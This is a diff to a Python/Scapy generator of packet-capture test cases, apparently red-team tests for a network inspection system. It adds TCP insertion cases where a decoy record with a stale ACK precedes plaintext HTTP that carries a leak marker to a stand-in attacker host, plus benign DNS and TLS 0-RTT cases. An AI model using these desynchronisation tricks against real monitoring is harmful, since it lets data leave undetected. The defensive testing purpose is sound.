@@ -177,7 +177,7 @@ class ETcp(Tcp):
     a short TTL, the urgent pointer, and IP fragmentation."""
 
     def raw(self, from_client, flags, payload=b"", seq=None, ack=None, ipkw=None, tcpkw=None,
-            options=None, frag=None, gap=None):
+            options=None, frag=None, gap=None, window=64240):
         src, dst = (self.c, self.s) if from_client else (self.s, self.c)
         sp, dp = (self.cport, self.sport) if from_client else (self.sport, self.cport)
         if seq is None:
@@ -187,7 +187,7 @@ class ETcp(Tcp):
         if "A" not in flags:
             ack = 0
         ip = (IPv6 if ":" in src else IP)(src=src, dst=dst, **(ipkw or {}))
-        tcp = TCP(sport=sp, dport=dp, flags=flags, seq=seq, ack=ack, window=64240,
+        tcp = TCP(sport=sp, dport=dp, flags=flags, seq=seq, ack=ack, window=window,
                   options=options or [], **(tcpkw or {}))
         pkt = ip / tcp
         if payload:
@@ -2373,6 +2373,171 @@ def case_app_http_tab_absform(n):
     http_flow(cap, 42437, 537, 3128, http_req(b"www.example.org", leak(n),
                                               line=b"GET\thttp://www.example.org/\tHTTP/1.1"), leak(n))
     return cap, {"leak": [leak(n)]}
+
+
+# The receiver's bounds on an old ACK, round four of the red team: Linux
+# takes an ACK back to min(max_window, bytes_acked) behind snd_una (so
+# never before the receiver's stream start: 6.1.67+, upstream 3d501dd326fb),
+# takes no window from an old ACK (tcp_ack's old_ack path), and reads the
+# last of two Window Scale options. And what real stacks send that such a
+# check must let through: a resolver's first answer acknowledging only the
+# first of two pipelined queries, 0-RTT early data the server's first
+# flight does not acknowledge yet, a zone transfer.
+
+class WinTcp(ETcp):
+    """ETcp whose every frame carries the client's (wc) or server's (ws)
+    window field, and the given SYN options."""
+
+    def __init__(self, *a, wc=64240, ws=64240, syn_opts=None, **kw):
+        super().__init__(*a, **kw)
+        self.wc, self.ws = wc, ws
+        if syn_opts is not None:
+            self.SYN_OPTS = syn_opts
+
+    def frame(self, from_client, flags, payload=b"", seq=None, ack=None, options=None, gap=None):
+        self.raw(from_client, flags, payload, seq=seq, ack=ack, options=options, gap=gap)
+
+    def raw(self, from_client, flags, payload=b"", window=None, **kw):
+        if window is None:
+            window = self.wc if from_client else self.ws
+        ETcp.raw(self, from_client, flags, payload, window=window, **kw)
+
+
+def win_session(cap, cport, isn, n, **kw):
+    t = WinTcp(cap, S1, cport, E2M, 443, isn=isn, rtt_us=20000, **kw)
+    t.handshake()
+    start = t.sseq
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, tls_appdata(n + "req", 180))
+    t.data(False, tls_appdata(n + "resp", 700))
+    return t, start
+
+
+def win_decoy(t, n, ack):
+    """The decoy record (window 777) with the given ACK, the server's
+    challenge ACK, then plaintext HTTP at the same sequence number."""
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    base = t.cseq
+    t.raw(True, "PA", decoy, seq=base, ack=ack & 0xFFFFFFFF, window=777)
+    t.raw(False, "A", seq=t.sseq, ack=base)
+    t.raw(True, "PA", http, seq=base)
+    t.cseq = base + len(http)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+
+
+def bulk(t, n, count):
+    """count records of 1400 bytes from the server, every other one acknowledged."""
+    for k in range(count):
+        t.raw(False, "PA", tls_appdata(n + "bulk%d" % k, 1400), gap=100)
+        t.sseq += 1405
+        if k % 2:
+            t.raw(True, "A")
+    t.raw(True, "A")
+
+
+@case
+def case_after_insert_oldack_start(n):
+    """The decoy record's ACK 500 bytes before the server's first byte
+    (within the window: bytes the server never sent)."""
+    cap = Capture()
+    t, start = win_session(cap, 42438, 538, n)
+    win_decoy(t, n, start - 500)
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_insert_oldack_inflate(n):
+    """Client window 156 << 7; 60 KB from the server, acknowledged; a bare ACK
+    one byte old with window 65535 (no window is taken from an old ACK);
+    then the decoy's ACK 40000 behind."""
+    cap = Capture()
+    t, _ = win_session(cap, 42439, 539, n, wc=156)
+    bulk(t, n, 42)
+    t.raw(True, "A", ack=(t.sseq - 1) & 0xFFFFFFFF, window=65535)
+    win_decoy(t, n, t.sseq - 40000)
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_insert_wscale_twice(n):
+    """The client's SYN carries Window Scale 14, then 0 (the last counts);
+    windows of 5000; 20 KB from the server, acknowledged; the decoy's ACK
+    10000 behind."""
+    cap = Capture()
+    t, _ = win_session(cap, 42440, 540, n, wc=5000,
+                       syn_opts=[("MSS", 1460), ("SAckOK", b""), ("WScale", 14), ("WScale", 0)])
+    bulk(t, n, 15)
+    win_decoy(t, n, t.sseq - 10000)
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_early_data_ok(n):
+    """TLS 1.3 0-RTT: the ClientHello and an early-data record back to back;
+    the server's first flight acknowledges the ClientHello only."""
+    cap = Capture()
+    t = WinTcp(cap, S1, 42443, E2M, 443, isn=543, rtt_us=20000, wc=502, ws=502)
+    t.handshake()
+    h = hello(n)
+    c0 = t.cseq
+    t.send(True, h)
+    t.send(True, marked_record(passm(n), n + "early", 200))
+    flight = server_hello_flight(n)
+    t.raw(False, "PA", flight, ack=c0 + len(h))
+    t.sseq += len(flight)
+    t.ack(True)
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(False, tls_appdata(n + "resp", 300))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_dns_tcp_pipe_ok(n):
+    """DNS over TCP: two queries pipelined; the resolver's first segment is
+    its answer to the first, sent before the second reached it."""
+    cap = Capture()
+    t = ETcp(cap, S1, 42442, RESOLVER, 53, isn=542, rtt_us=4000)
+    t.handshake()
+    q1, a1 = dns_pair(E2M_NAME, "A", 0x5621, E2M)
+    q2, a2 = dns_pair(E2M_NAME, "AAAA", 0x5622, E2M6)
+    c0 = t.cseq
+    t.send(True, q1)
+    t.send(True, q2, gap=1000)
+    t.raw(False, "PA", a1, ack=c0 + len(q1))
+    t.sseq += len(a1)
+    t.ack(True)
+    t.data(False, a2)
+    t.close()
+    return cap, {"pass": [a2[2:]]}
+
+
+@case
+def case_dns_tcp_axfr_ok(n):
+    """DNS over TCP: a zone transfer whose later answer messages carry no
+    question (RFC 5936 2.2, as BIND sends them)."""
+    cap = Capture()
+    t = ETcp(cap, S1, 42441, RESOLVER, 53, isn=541, rtt_us=4000)
+    t.handshake()
+    qd = DNSQR(qname="customs.example", qtype="AXFR")
+    q = bytes(DNS(id=7, qd=qd))
+    t.data(True, struct.pack("!H", len(q)) + q)
+    rr = DNSRR(rrname="customs.example", type="A", rdata="192.0.2.1")
+    m1 = bytes(DNS(id=7, qr=1, aa=1, qd=qd, an=rr))
+    recs = b"".join(bytes(DNSRR(rrname="h%d.customs.example" % i, type="A", rdata="192.0.2.%d" % i))
+                    for i in range(2, 40))
+    m2 = struct.pack("!HHHHHH", 7, 0x8400, 0, 38, 0, 0) + recs
+    m3 = struct.pack("!HHHHHH", 7, 0x8400, 0, 1, 0, 0) + bytes(rr)
+    for m in (m1, m2, m3):
+        t.send(False, struct.pack("!H", len(m)) + m)
+    t.ack(True)
+    t.close()
+    return cap, {"pass": [m3]}
 
 
 # ------------------------------------------------------------------- main
